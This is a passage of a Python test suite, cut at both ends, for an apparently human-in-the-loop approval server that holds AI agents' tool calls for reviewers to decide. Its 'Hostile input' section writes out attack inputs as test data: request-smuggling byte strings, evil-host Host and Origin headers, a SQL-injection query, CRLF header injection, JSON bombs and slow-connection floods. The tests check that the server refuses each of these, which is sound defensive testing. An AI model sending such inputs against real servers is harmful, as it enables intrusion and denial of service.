    monkeypatch.setattr(hitl.Call, "resolved", lambda *asked: looked_up.append(asked))
    monkeypatch.setattr(hitl.Rules, "all_holding", lambda *asked: matched.append(
        asked) or [])
    for one in (desk, limited):
        file = {"path": "/net/x", "content": "x" * hitl.MAX_ARGUMENTS}
        assert one.post("r-2", tool="write_file", arguments=file, session="s"
                        ).status == 201
        one.post("r-3", tool="delete_it", arguments={"a": 2}, session="s")
    desk.decide("r-3", "rejected")
    desk.page()
    hitl.Client(limited.url, hitl.basic("bo", NAMED["bo"])).fetch(
        "GET", "/", seconds=10, Accept="text/html")
    assert looked_up == []
    assert [arguments for _, _, arguments in matched] == [{"a": 2}]


def test_each_way_to_decide_takes_a_reason(make_desk, make_gate):
    """Also without its script a card sends a reason with each way to decide."""
    desk = make_desk(rules=make_gate(rules=EDITABLE).rules)
    desk.post(tool="delete_records", arguments=CALL, session="s", edits=True,
              checkpoint_id="delete-records")
    forms = re.findall('(?s)<form id="([a-z]+)-r-1"(.*?)</form>', desk.page())
    assert [name for name, _ in forms] == ["decide", "remember", "edit"]
    assert all('name="reason"' in fields for _, fields in forms)


def test_a_call_without_arguments_has_none_to_change(ruled):
    """Nobody hides a card by offering changes of arguments that are not there."""
    desk, _ = ruled
    desk.post(tool="send", checkpoint_id="free", edits=True)
    page = hitl.Client(desk.url, hitl.basic("bo", NAMED["bo"])).fetch(
        "GET", "/review/r-1", seconds=10, Accept="text/html")[2].decode()
    assert Page(page).cards["r-1"]["buttons"] == BOTH


@pytest.mark.parametrize("what", CALLS)
def test_who_may_decide_which_checkpoint(ruled, what):
    """Only the reviewers of the checkpoint that the agent names, and of those
    that the desk's own file matches, can decide (403 else)."""
    desk, decide = ruled
    named, tool, arguments, may = CALLS[what]
    for name in NAMED:
        desk.post(f"r-{name}", tool=tool, checkpoint_id=named,
                  arguments=arguments, agent=name)
        desk_ask(desk, "GET", "/", hitl.basic("eve", NAMED["eve"]))
        status, said = decide(name, f"r-{name}")
        assert status == (200 if name in may.split() else 403), name
        assert status == 200 or said["reason"] == "not-your-request"


def test_a_decision_that_stands(ruled):
    """`remember` lets a decision answer the same call of the same session; a
    malformed one is 400, one that is not offered 409, and nothing is decided;
    lifting ends it; a rejection stands by itself unless remember is null."""
    desk, decide = ruled
    call = {"tool": "send", "checkpoint_id": "free", "session": "s"}
    other, bo = call | {"session": "t"}, hitl.basic("bo", NAMED["bo"])

    def standing():
        return desk_ask(desk, "GET", "/standing", bo,
                        Accept="application/json")[2]["standing"]
    desk.post("r-1", **call)
    for remember in ({"seconds": 60}, [60, 2], True, {}):
        status, said = decide("ana", remember=remember)
        assert (status, said["reason"]) == (400, "bad-field"), remember
    assert decide("ana", remember={"seconds": 60, "uses": 2})[0] == 200
    answers = [desk.post(f"again-{n}", **call).body for n in range(3)]
    assert [a["status"] for a in answers] == ["approved"] * 2 + ["waiting"]
    assert answers[0]["decided_by"] == "reviewer:ana" and answers[0]["said_at"]
    for name, fields, stands in (("null", {"remember": None}, "waiting"),
                                 ("no", {"reason": "why"}, "rejected")):
        desk.post(name, **other)
        assert decide("ana", name, decision="rejected", **fields)[0] == 200
        assert desk.post(f"{name}-2", **other).body["status"] == stands
        desk_ask(desk, "POST", f"/withdraw/{name}-2", "", {})
    row = standing()[0]
    assert {"number", "made_by", "made_at", "until", "uses"} < row.keys()
    assert (row["decision"], row["request_id"], row["used"], row["reason"]) == (
        "rejected", "no", 1, "why")
    lifted = desk_ask(desk, "POST", f"/lift/{row['number']}", bo, {})
    assert (lifted[0], lifted[2]["decision"]) == (200, "rejected")
    assert desk.post("no-3", **other).body["status"] == "waiting"
    for path in ("/lift/99", "/lift/x", "/lift/-1", "/lift/1.0"):
        assert desk_ask(desk, "POST", path, bo, {})[0] == 404
    for n, fields in enumerate(({"session": None}, {"tool": "mail"})):
        desk.post(f"not-{n}", **call | fields)
        status, said = decide("bo", f"not-{n}", remember={
            "seconds": 9, "uses": 1})
        assert (status, said["reason"]) == (409, "not-remembered")
        assert decide("bo", f"not-{n}", decision="rejected")[0] == 200
        assert desk.post(f"yet-{n}", **call | fields).body["status"] == "waiting"


def test_what_stands_is_void_when_the_desks_rules_change(ruled, make_rules):
    """A decision stands only while the desk's own checkpoints for the call are
    what they were, both the one that the agent names and those that match."""
    desk, decide = ruled
    calls = {name: {"tool": tool, "checkpoint_id": named, "session": "s"}
             for name, tool, named in (("matched", "send", "new"),
                                       ("named", "grow", "free"))}
    for name, call in calls.items():
        desk.post(name, **call)
        assert decide("ana", name, remember={"seconds": 60, "uses": 9})[0] == 200
    one_more = RULED[:RULED.index("[[", 5)].replace("delete", "send")
    for n, (text, stands) in enumerate((
            (RULED, "matched named"), ("", ""), (RULED + one_more, "named"),
            (RULED.replace('"Send"', '"S"'), ""),
            (RULED.replace('"Users"', '"U"'), "matched named"))):
        desk.more["rules"] = text and make_rules(text + "".join(
            f'[[reviewer]]\nname = "{name}"\ntoken_sha256 = "{"0" * 64}"\n'
            for name in NAMED))
        desk.restart()
        assert [name for name, call in calls.items() if desk.post(
            f"{name}-{n}", **call).body["status"] == "approved"] == stands.split(), n


def test_stop_everything(desk):
    """POST /stop refuses what comes and rejects what waits until it is
    lifted, by form and by JSON, also by command."""
    for n in range(10):
        desk.post(f"r-{n}")
    desk.post("yes")
    digest = desk.decide("yes").body["digest"]
    stop = typed(desk, "stop", "--reason", "wrong rows", "--json")
    number = json.loads(stop.out)["number"]
    claim = {"digest": digest, "claim": "c"}
    for method, path, who, body in (
            ("POST", "/pending", "", four("new")),
            ("POST", "/approve/r-1", REVIEWER, YES),
            ("POST", "/claim/yes", "", claim)):
        status, _, said = desk_ask(desk, method, path, who, body)
        assert status == 409 and said["reason"] in ("stopped", "already-decided")
        assert "ana" in said["title"]
    assert until(lambda: not desk_ask(desk, "GET", "/pending", REVIEWER
                                      )[2]["waiting"])
    assert desk.state("r-9")["reason"] == "wrong rows"
    assert f"{number} stopped: everything, by ana" in typed(desk, "standing").out
    assert "wrong rows" in desk.page() and "Lift" in desk.page("/standing")
    assert typed(desk, "lift", str(number)).out.startswith("lifted: ")
    assert desk_ask(desk, "POST", "/claim/yes", "", claim)[0] == 200
    assert desk.post("new").status == 201
    for path, body in (("/stop", b"reason=why"), (f"/lift/{number + 1}", b"")):
        status, headers, _ = desk_ask(
            desk, "POST", path, REVIEWER, body, Content_Type=FORM,
            Accept="text/html")
        assert status == 303 and headers["Location"] in ("/", "/standing")
    assert typed(desk, "standing").out == "no standing decisions\n"


def test_arguments_changed_before_approval(ruled):
    """An approval may change the arguments where the checkpoints and the
    agent allow it, named by the digest that was read; the claim names what
    will run, and is told it."""
    desk, decide = ruled
    call = {"tool": "send", "checkpoint_id": "free", "arguments": {
        "to": "prod", "n": 1, "text": "a\nb"}}
    other = call["arguments"] | {"to": "staging"}
    asked = desk.post(edits=True, **call).body["digest"]
    for body, expected in (
            ({"arguments": other}, "bad-field"),
            ({"arguments": other, "digest": "0" * 64}, "arguments-changed"),
            ({"arguments": {"to": 5}, "digest": asked}, "bad-field"),
            ({"arguments": other, "digest": asked, "decision": "rejected"},
             "not-editable"),
            ({"arguments": [1], "digest": asked}, "bad-field")):
        status, said = decide("ana", **body)
        assert (status // 100, said["reason"]) == (4, expected)
    status, said = decide("ana", arguments=other, digest=asked)
    assert status == 200 and said["approved_digest"] != said["digest"] == asked
    claims = [desk_ask(desk, "POST", "/claim/r-1", "", {
        "digest": digest, "claim": "c"})[::2]
        for digest in (asked, said["approved_digest"])]
    assert claims[0][1]["reason"] == "arguments-changed"
    assert claims[1][0] == 200 and claims[1][1]["arguments"] == other
    assert claims[1][1]["approved_digest"] == said["approved_digest"]
    for n, (fields, expected) in enumerate((
            ({"edits": False}, 409), ({"tool": "mail"}, 409),
            ({"tool": "grow", "checkpoint_id": "new"}, 409),
            ({"tool": "grow"}, 200), ({"checkpoint_id": "new"}, 200))):
        sent = desk.post(f"no-{n}", **{"edits": True} | call | fields).body
        status, said = decide("bo", f"no-{n}", arguments=other,
                              digest=sent["digest"])
        assert status == expected, (fields, said)


def test_a_form_that_changes_arguments(ruled):
    """The page's form has a field an argument; CR LF is undone, what is not a
    text is JSON, and equal ones are a plain approval."""
    desk, _ = ruled
    arguments = {"to": "prod", "n": 1, "text": "a\nb"}
    who = hitl.basic("ana", NAMED["ana"])
    for name, n, text, expected in (
            ("same", "1", "a\r\nb", None), ("new", "2", "a\r\nc", 200),
            ("odd", "two", "a", 400), ("kind", '"2"', "a", 400)):
        sent = desk.post(name, edits=True, tool="send", checkpoint_id="free",
                         arguments=arguments).body
        form = {"decision": "approved", "digest": sent["digest"],
                "shown_at": "2026-01-01", "argument:n": n,
                "argument:text": text, "argument:to": "prod"}
        status = desk_ask(desk, "POST", f"/approve/{name}", who,
                          urlencode(form).encode(), Content_Type=FORM)[0]
        assert status == (expected or 200), name
        changed = desk.rows("SELECT approved_arguments FROM pending_reviews "
                            "WHERE request_id = ?", name)[0][0]
        assert (json.loads(changed) if changed else None) == (
            {"to": "prod", "n": 2, "text": "a\nc"} if name == "new" else None)


# ============================== Hostile input ==============================
# Bytes that no honest client sends: each is refused once, and stops nobody.

HOSTS = {**dict.fromkeys((
    "127.0.0.1:{port}", "LocalHost:1", "[::1]:9", "192.0.2.7", "[fe80::1]:80",
    "0.0.0.0", "desk.example"), True), **dict.fromkeys((
        "evil.example", "127.0.0.1.evil:{port}", "127.0.0.1:80@evil", "",
        "localhost:999999", "desk.example:443", "localhost.", "127.0.0.1, evil",
        "xdesk.example"), False)}


def test_a_foreign_host_where_no_credentials_are_needed(make_desk):
    """Open agent routes answer only to our own names and to addresses (DNS
    rebinding needs a foreign name); whoever signs in may use any name."""
    for token in (None, AGENT_TOKEN):
        desk = make_desk(public_url="https://desk.example", agent_token=token)
        for host, ours in HOSTS.items():
            head = (CLOSE, f"Host: {host.format(port=desk.port)}")
            for line, who, expected in (
                    (HEALTH, None, 200), ("GET / HTTP/1.1", REVIEWER, 200),
                    ("GET / HTTP/1.1", None, 401),
                    ("GET /pending/x HTTP/1.1", token and AGENT,
                     404 if ours or token else 421)):
                answer = desk.raw(http(line, *head, *(
                    [f"Authorization: {who}"] if who else [])))
                assert statuses(answer) == [expected], (host, line)
                assert expected != 421 or b"public_url" in answer


def test_another_sites_page(make_desk):
    """From a browser only our own page may post: Sec-Fetch-Site decides where
    it is sent, else Origin names Host's host and port, or public_url's, with
    whatever scheme a proxy took; every refusal names public_url."""
    desk = make_desk(public_url="https://desk.example")
    for host in ("desk.lan", f"127.0.0.1:{desk.port}", "127.0.0.1:80@evil"):
        own = (None, f"http://{host}", f"https://{host}",
               "https://desk.example", "https://desk.example:443")
        for origin in (*own, "null", "", "http://evil.example", "https://",
                       f"http://{host}.evil", f"http://{host}:1", host):
            ours = origin in own and not (origin and host in origin
                                          and "@" in host)
            for site in (None, "same-origin", "same-site", "cross-site",
                         "none", ""):
                passes = ours if site is None else (
                    site == "same-origin" and origin != "null")
                fields = {"Host": host, "Origin": origin,
                          "Sec-Fetch-Site": site}
                answer = desk.raw(http(
                    "POST /approve/r-1 HTTP/1.1", CLOSE, TWO,
                    "Content-Type: application/json",
                    f"Authorization: {REVIEWER}",
                    *(f"{name}: {value}" for name, value in fields.items()
                      if value is not None), body=b"{}"))
                assert statuses(answer) == [400 if passes else 403], fields
                assert passes or b"public_url" in answer


def test_a_get_never_changes_anything(desk):
    """Whatever a GET asks, the database is as it was (link scanners), and
    no query is a fault of ours."""
    desk.post("r-1", timeout_seconds=600)

    def everything():
        return [desk.rows(f"SELECT * FROM {table}")
                for table in ("pending_reviews", "audit_log")]
    before = everything()
    for path in sorted({r.path for r in hitl.ROUTES}):
        for query in ("decision=approved", "_method=POST", "before=-1",
                      "before=1%27%20OR%201=1", "before=" + "9" * 30,
                      "x=%00%ff%0d%0a", "&" * 20, "before=1&before=2"):
            for who in ("", REVIEWER):
                url = path.replace("{request_id}", "r-1") + "?" + query
                assert desk_ask(desk, "GET", url, who, X_HTTP_Method_Override=
                                "POST")[0] < 500, url
    assert everything() == before


P = ("POST /pending HTTP/1.1", LOCAL, "Content-Type: application/json")
CHUNKED = "Transfer-Encoding: chunked"
NOT_ONE_REQUEST = [
    *(http(*P, *fields, body=b"{}") for fields in (
        (TWO, TWO), (TWO, "Content-Length: 9"), (CHUNKED, TWO),
        ("Transfer-Encoding: xchunked", TWO), ("Content-Length : 2",), ())),
    *(http(*P, f"Content-Length: {length}", body=b"{}" * 5) for length in (
        "2, 2", "+4", "-2", "0x2", "2 2", "1_0", "", "\xb2", "104857600")),
    http(*P, CHUNKED, body=b"0\r\n\r\n" + http(HEALTH, LOCAL)),
    http(HEALTH, LOCAL, TWO, body=b"{}"),
    *(http(HEALTH, LOCAL, *fields) for fields in (
        ("X: a\rContent-Length: 3",), ("X: a\nContent-Length: 3",),
        ("X: a\0b",), ("X: a", " b"), ("\tb",), ("word",), (": a",),
        ("a b: c",), (LOCAL,), ("Authorization: a", "Authorization: b"),
        ("X: " + "a" * 100_000,), [f"X-{n}: 1" for n in range(64)],
        (f"X:{' ' * 16000}\x01",))),
    http(HEALTH), http(HEALTH, " x: y", LOCAL), http(HEALTH + " ", LOCAL),
    *(http(line, LOCAL) for line in (
        "GET / HTTP/1.2", "GET / http/1.1", "GET http://localhost/ HTTP/1.1",
        "OPTIONS * HTTP/1.1", "get / HTTP/1.1", "GET  / HTTP/1.1",
        "CONNECT localhost:443 HTTP/1.1", "GET\t/ HTTP/1.1",
        "GET /\xe9 HTTP/1.1", "GET /\0 HTTP/1.1")),
    f"{HEALTH}\n{LOCAL}\n\n".encode(), b"GET /\r\n\r\n",
    b"\r\n" + http(HEALTH, LOCAL), b"\r\n\r\n" + http(HEALTH, LOCAL),
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 50,   # TLS
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"PROXY TCP4 1\r\n\r\n",
    b"GET /" + b"a" * 100_000]


def test_ambiguous_bytes(desk):
    """What is ambiguous is refused, never repaired: exactly one answer, 4xx,
    at once, and the connection closes."""
    for data in NOT_ONE_REQUEST:
        start = time.process_time()
        answer = desk.raw(data)
        assert [n // 100 for n in statuses(answer)] == [4], data[:200]
        assert b"Connection: close" in answer
        assert time.process_time() - start < 0.5, data[:200]
    assert desk.rows("SELECT * FROM audit_log") == []


def test_plain_but_rare_http(desk):
    """Pipelined requests are answered in order, however large, Expect gets
    its 100, HTTP/1.0 none and a close, 64 fields, a body byte by byte and a
    client that closes its half are fine."""
    large = {"agent_context": "a" * 20_000}
    answer = desk.raw(b"".join(
        http_post(four(f"r-{n}") | (large if n > 9 else {}))
        for n in range(18)) + http("GET /pending/r-3 HTTP/1.1", LOCAL)
        + http("GET /nowhere HTTP/1.1", LOCAL) + http(HEALTH, LOCAL))
    assert statuses(answer) == [201] * 18 + [200, 404]      # and then close
    assert re.findall(rb"Location: /review/(r-\d+)", answer) == [
        b"r-%d" % n for n in range(18)]
    post = http_post(four("e"), "Expect: 100-continue", CLOSE)
    assert statuses(desk.raw(post.replace(b"P/1.1", b"P/1.0", 1))) == [201]
    head, end, body = post.partition(b"\r\n\r\n")
    with knock(desk, head + end) as sock:
        assert sock.recv(99) == b"HTTP/1.1 100 Continue\r\n\r\n"
        sock.sendall(body)
        assert statuses(read_all(sock)) == [200]
    answer = desk.raw(http("GET /healthz HTTP/1.0"))
    assert statuses(answer) == [200] and CLOSE.encode() in answer
    assert statuses(desk.raw(http(HEALTH, LOCAL, CLOSE, *(
        f"X-{n}: {n}" for n in range(62))))) == [200]
    with knock(desk, b"") as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in http_post(four("b")):
            sock.sendall(bytes([byte]))
        sock.shutdown(socket.SHUT_WR)           # as `nc -N` does
        assert statuses(read_all(sock)) == [201]


@pytest.mark.parametrize("count", [400, pytest.param(6_000, marks=long)])
def test_mutated_heads(make_desk, count):
    """A head with a few bytes changed is answered at most once, never as a
    fault of ours, and what stands in a body is never a request."""
    desk = make_desk(limits=dict.fromkeys(
        ("request_seconds", "idle_seconds", "linger_seconds"), 0.1))
    chance, inner = random.Random(5), http_post(four("smuggled"))
    pieces = [b"\r\n"] + [bytes([byte]) for byte in
                          b"\0\t\n\r :;,\x0b\x7f\x80\xffAaGPx0/%"]

    def mutated(n: int) -> bytes:
        whole = http_post(json.dumps(four(f"m-{n}")).encode() + inner,
                          f"Authorization: {REVIEWER}" if n % 2 else "X: y",
                          "Origin: http://localhost")
        end = whole.rfind(b"Content-Length", 0, -len(inner)) + 16
        head = bytearray(whole[:end])
        for _ in range(chance.randint(1, 3)):
            at = chance.randrange(len(head) - 2)
            head[at:at + chance.choice((0, 1, 1, 5))] = chance.choice(pieces)
        return bytes(head) + whole[end:]
    for _ in range(count // 400):
        with contextlib.ExitStack() as stack:
            for sock in [stack.enter_context(knock(desk, mutated(n)))
                         for n in range(400)]:
                got = statuses(read_all(sock))
                assert len(got) <= 1 and not [s for s in got if s >= 500]
    assert not desk.rows("SELECT 1 FROM pending_reviews WHERE request_id = "
                         "'smuggled'")


def test_json_bombs(desk):
    """What is not strict JSON is 400 at once, on every route that reads
    JSON."""
    deep = 500_000
    for bomb in (b"[" * deep, b"[" * deep + b"]" * deep, b"9" * deep,
                 b'{"a":' * 33 + b"1" + b"}" * 33, b'{"a": 1, "a": 1}', b"",
                 b'{"a": 1e400}', b'{"a": "\\ud800"}', b'{"a": "\xff"}',
                 b"{} {}", b"[]"):
        for path in ("/pending", "/approve/r", "/claim/r", "/withdraw/r"):
            start = time.process_time()
            status, _, said = desk_ask(desk, "POST", path, REVIEWER if path
                                       == "/approve/r" else "", bomb)
            assert (status, said["reason"]) == (400, "bad-json"), bomb[:40]
            assert time.process_time() - start < 0.5, bomb[:40]


WRONG_FIELDS = [(name, value, 400) for name, values in {
    "request_id": ("", "a" * 129, "a/b", "a\n", "é", 7, None, ".", ".."),
    "action_description": ("", " \n", None, ["a"]), "arguments": ([], "{}"),
    "timestamp": ("yesterday", True, 1e300, "0001-01-01T00:00:00+14:00"),
    "timeout_seconds": (0, -1, "5", True, 10 ** 300, 4e9), "digest": (5, ""),
    "status": ("approved",), "decided_by": ("reviewer:ana",), "tool\n": "a",
    **dict.fromkeys(hitl.OPTIONAL_FIELDS, (5,))}.items() for value in values]
WRONG_FIELDS += [(name, letter * (limit // size + 1), 413) for name, limit in (
    *hitl.OPTIONAL_FIELDS.items(), ("action_description",
                                    hitl.MAX_DESCRIPTION))
    for letter, size in (("a", 1), ("\N{CAT}", 4))]
WRONG_FIELDS += [("arguments", {"a": "é" * (hitl.MAX_ARGUMENTS // 6)}, 413)]


def test_every_field_over_its_limit(desk):
    """A field that is not what it must be, or over its limit, is a clear
    4xx that names it; nothing is stored."""
    for name, value, expected in WRONG_FIELDS:
        reply = desk.post(**{"request_id": "r-1", name: value})
        assert reply.status == expected, (name, str(value)[:30])
        assert name.strip() in reply.body["title"] + reply.body["detail"]
    for name, limit in hitl.OPTIONAL_FIELDS.items():
        assert desk.post(f"ok-{name}", **{name: "a" * limit}).status == 201
    for request_id, size, status in (("ok-edit", -40, 201), ("r-1", 0, 413)):
        file = {"path": "a", "content": "b" * (hitl.MAX_EDITED + size)}
        assert desk.post(request_id, tool="write_file", arguments=file
                         ).status == status
    patch = {"command": "apply_patch <<E\n" + "+b\n" * 30_000}    # a file, too
    assert desk.post("ok-patch", tool="shell", arguments=patch).status == 201
    assert desk.post("r-1", tool="shell", arguments={"command": "b" * 70_000}
                     ).status == 413
    long_text, claim = "a" * (hitl.MAX_WHY + 1), {"digest": "a", "claim": "a"}
    for path, body in (("approve", YES | {"reason": long_text}),
                       ("withdraw", {"why": long_text}),
                       ("claim", claim | {"digest": "a" * 65}),
                       ("claim", claim | {"claim": "a" * 257})):
        assert desk_ask(desk, "POST", f"/{path}/ok-tool", REVIEWER if path
                        == "approve" else "", body)[0] == 413
    assert len(desk.waiting()) == len(hitl.OPTIONAL_FIELDS) + 2
    assert not desk.rows("SELECT 1 FROM audit_log WHERE event <> 'submitted'")


def test_slow_connections_lock_nobody_out(desk, make_desk):
    """400 half-open connections and 200 that send byte by byte: every
    reviewer's request is served; a request has a total deadline, not one a
    read."""
    hitl.limits_here()
    with contextlib.ExitStack() as stack:
        socks = [stack.enter_context(knock(desk, b"POST /pend" if n % 2 else
                                           b"G")) for n in range(600)]
        for path in ("/", "/pending", "/history") * 2:
            for sock in socks[:200]:
                sock.send(b"A")
            assert desk_ask(desk, "GET", path, REVIEWER)[0] == 200
    desk = make_desk(limits={"request_seconds": 0.2})
    end = time.monotonic() + 10
    with knock(desk, b"") as sock, pytest.raises(ConnectionError):
        while time.monotonic() < end:
            sock.sendall(b"A")
            time.sleep(0.02)


def test_when_connections_run_out(make_desk):
    """What is pushed out is the oldest of the larger group, half-open or
    parked, and a parked poll is answered early; whoever comes is served, and
    a signed-in reviewer is never pushed out."""
    head = http(HEALTH, LOCAL, CLOSE)
    desk = make_desk(limits={"connections": 8})
    for n in range(6):
        desk.post(f"r-{n}")
    with contextlib.ExitStack() as stack:
        page = stack.enter_context(knock(desk, http(
            "GET /changes HTTP/1.1", LOCAL, f"Authorization: {REVIEWER}")))
        assert statuses(page.recv(4096)) == [200]
        halves = [stack.enter_context(knock(desk, head[:9]))
                  for n in range(9)]
        assert [read_all(sock) for sock in halves[:2]] == [b""] * 2
        for sock in halves[2:]:
            sock.sendall(head[9:])
            assert statuses(read_all(sock)) == [200]
        polls = [stack.enter_context(long_poll(desk, f"r-{n}"))
                 for n in range(6)]
        halves = [stack.enter_context(knock(desk, head[:9]))
                  for n in range(4)]
        for poll in polls[:2]:
            answer = read_all(poll)
            assert statuses(answer) == [200] and b'"waiting"' in answer
        assert desk_ask(desk, "GET", "/", REVIEWER)[0] == 200
        page.sendall(http("GET / HTTP/1.1", LOCAL, CLOSE,
                          f"Authorization: {REVIEWER}"))
        assert statuses(read_all(page)) == [200]


def test_unfinished_bodies_share_a_limit(make_desk):
    """All that was sent and not answered shares a limit; above it the oldest
    go until half is left, but not a reviewer's, and nobody else notices."""
    desk = make_desk(limits={"unread_bytes": 1_400_000})
    part = http(*P, "Content-Length: 320000", body=b"a" * 300_000)
    own = part.replace(b"/pending", b"/approve/r-1").replace(
        b"\r\n", f"\r\nAuthorization: {REVIEWER}\r\n".encode(), 1)

    def unread():
        return sum(len(each.inbox) for each in list(desk.server.connections))
    with contextlib.ExitStack() as stack:
        socks = []
        for data, total in ((own, 3), (part, 6), (part, 9), (part, 12), (part, 6)):
            socks.append(stack.enter_context(knock(desk, data)))
            assert until(lambda total=total: unread() == total * 100_000)
        assert [read_all(sock) for sock in socks[1:4]] == [b""] * 3
        assert desk.post().status == 201
        for sock in (socks[0], socks[4]):
            sock.sendall(b"a" * 20_000)
            assert statuses(sock.recv(4096)) == [400]
    assert until(lambda: unread() == 0)


NESTED = "[" * 26 + "1" + "]" * 26


def test_reviewers_come_first_in_a_bounded_turn(desk):
    """Of what is whole at once reviewers' requests are answered first, and a
    turn that is 30 ms old dispatches nothing more: bodies of deep JSON hold
    nobody up."""
    context = "[" + ",".join([NESTED] * 3_800) + "]"
    whole = [http_post(json.dumps(four(f"deep-{n}") | {"agent_context": 0}).replace(
        '"agent_context": 0', f'"agent_context": {context}').encode(), CLOSE)
        for n in range(6)]
    whole.append(http("GET /pending HTTP/1.1", LOCAL, CLOSE,
                      f"Authorization: {REVIEWER}"))
    turn = in_background(desk_ask, desk, "GET", "/changes?after=0&wait=25", REVIEWER)
    with contextlib.ExitStack() as stack:
        socks = [stack.enter_context(knock(desk, data[:-1])) for data in whole]
        assert until(lambda: desk.server.waiters and len(
            desk.server.connections) == len(whole) + 1)
        all_sent = threading.Event()            # the loop waits for it
        desk.server.asyncio_loop.call_soon_threadsafe(all_sent.wait, 10)
        for sock, data in zip(socks, whole, strict=True):
            sock.sendall(data[-1:])
        all_sent.set()
        assert b'"waiting": []' in read_all(socks.pop())
        assert 0 < turn()[2]["change"] < len(socks)     # after the first turn
        for sock in socks:
            assert statuses(read_all(sock)) == [201]


def test_stopping_gives_the_last_answers(make_desk):
    """Stopping answers what is whole and every parked poll, and waits for no
    client that does not read."""
    desk = make_desk(limits={"drain_seconds": 0.5})
    desk.post("r-1", agent_context="a" * 900_000)
    with knock(desk, b"") as deaf, long_poll(desk) as poll:
        deaf.sendall(http("GET /review/r-1 HTTP/1.1", "Accept: application/json",
                          f"Authorization: {REVIEWER}", LOCAL) * 8)
        stopped = in_background(desk.stop)
        answer = read_all(poll)
        stopped(4)
    assert statuses(answer) == [200] and b'"waiting"' in answer
    desk.start()


def test_a_fault_of_ours_ends_serve(tmp_path):
    """What a callback raises unexpectedly ends serve with status 1 and a
    traceback; what a socket raises does not."""
    served = Running(sys.executable, "-c", f"""
import sys; sys.path.insert(0, {str(HERE)!r}); import hitl
sweep = hitl.Loop.sweep
def faulty(self):
    sweep(self)
    raise (LookupError if self.desk.store.waiting_count else OSError)("ours")
hitl.Loop.sweep = faulty
sys.exit(hitl.main(sys.argv[1:]))""", "serve", "--port", "0", "--database",
        str(tmp_path / "hitl.db"), folder=tmp_path, HITL_REVIEWER_TOKEN=R)
    with served:
        url = served.said("(http://.*)/")[1]
        assert served.said(".*ours.*") and served.process.poll() is None
        hitl.Client(url).exchange("POST", "/pending", four(), seconds=10)
        assert served.process.wait(10) == 1
        assert served.said("LookupError: ours") and "Traceback" in served.text


def test_a_fault_of_ours_is_an_answer(desk, monkeypatch, caplog):
    """A route that fails unexpectedly answers 500, has changed nothing, and its
    traceback is in the log; the next request is served."""
    post_pending = hitl.Desk.post_pending

    def faulty(*asked) -> None:
        post_pending(*asked)
        raise LookupError("ours")
    with monkeypatch.context() as patched:
        patched.setattr(hitl.Desk, "post_pending", faulty)
        reply = desk.post("r-1")
    assert (reply.status, reply.body["reason"]) == (500, "internal")
    assert "LookupError: ours" in caplog.text
    assert desk.rows("SELECT * FROM pending_reviews") == []
    assert desk.post("r-1").status == 201


def test_a_database_that_is_gone(tmp_path):
    """A database that is deleted under serve stops it, with words."""
    with Served(tmp_path) as served:
        (tmp_path / "hitl.db").unlink()
        assert served.process.wait(10) == 1
        assert served.said("hitl: error: .*hitl.db was deleted or replaced")


# ---- TLS ----

@pytest.fixture
def tls_desk(make_desk, certificate, monkeypatch):
    """A desk that speaks TLS, and clients that trust it."""
    import ssl
    monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    yield make_desk(tls=context, limits={"handshake_seconds": 0.4})


def test_tls_from_gate_to_page(tls_desk, make_gate):
    """With a certificate the whole path speaks https."""
    assert tls_desk.url.startswith("https://127.0.0.1:")
    result = in_background(make_gate(tls_desk).call, "delete_records", CALL,
                           lambda **given: given)
    there, = tls_desk.waiting()
    assert there["url"].startswith(tls_desk.url)
    assert "Delete users" in tls_desk.page()
    assert tls_desk.decide(there["request_id"]).status == 200
    assert result() == CALL


def test_tls_and_who_does_not_speak_it(tls_desk):
    """Plain HTTP, a half-open handshake, a client that vanishes, one that
    sends nonsense inside: each is dropped, and nobody else notices."""
    import ssl
    inside = ssl.create_default_context()
    hello, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    shake = inside.wrap_bio(hello, out, server_hostname="127.0.0.1")
    with contextlib.suppress(ssl.SSLWantReadError):
        shake.do_handshake()
    half = out.read()
    with contextlib.ExitStack() as stack:
        socks = [stack.enter_context(knock(tls_desk, data)) for data in (
            http(HEALTH, LOCAL), half, half[:20], b"")]
        assert until(lambda: len(tls_desk.server.connections) > 2)
        knock(tls_desk, half).close()
        with inside.wrap_socket(knock(tls_desk, b""),
                                server_hostname="127.0.0.1") as sock:
            sock.sendall(b"nonsense\r\n\r\n")
            assert statuses(read_all(sock)) == [400]
        assert desk_ask(tls_desk, "GET", "/", REVIEWER)[0] == 200
        for sock in socks:
            assert b"HTTP" not in read_all(sock)
    assert until(lambda: not tls_desk.server.connections)
    with inside.wrap_socket(knock(tls_desk, b""),
                            server_hostname="127.0.0.1") as sock:
        for byte in http(HEALTH, LOCAL, CLOSE):
            sock.sendall(bytes([byte]))
        assert statuses(read_all(sock)) == [200]


def test_who_does_not_read_is_dropped(make_desk):
    """A client that does not take its answer stops nobody, and is dropped
    when its time is up."""
    desk = make_desk(limits={"idle_seconds": 0.2})
    context = "\N{CAT}" * 260_000        # 3 MB in ASCII
    desk_ask(desk, "POST", "/pending", "", json.dumps(
        four() | {"agent_context": context}, ensure_ascii=False).encode())
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(10)
        sock.connect(("127.0.0.1", desk.port))
        sock.sendall(http("GET /review/r-1 HTTP/1.1", LOCAL,
                          f"Authorization: {REVIEWER}",
                          "Accept: application/json"))
        answer = sock.recv(4096)
        assert desk_ask(desk, "GET", "/healthz")[0] == 200
        assert until(lambda: not desk.server.connections)
        assert len(answer + read_all(sock)) < 12 * len(context)


def test_one_line_for_each_event(desk):
    """CR, LF, ESC or U+2028 in any field makes no line and no header: the
    printed lines equal the events."""
    bad = "a\r\nSet-Cookie: b=c\r\n\r\n\x1b[2J\x07\u2028\x85\x0b\u202ez"
    for name in hitl.OPTIONAL_FIELDS | {"action_description": 0}:
        assert desk.post(f"r-{name}", **{name: bad}).status == 201
    desk.post("ran", arguments={bad: bad}, agent_context={bad: [bad]})
    digest = desk.decide("ran", reason=bad).body["digest"]
    for method, path, who, body in (
            ("POST", "/withdraw/r-tool", "", {"why": bad}),
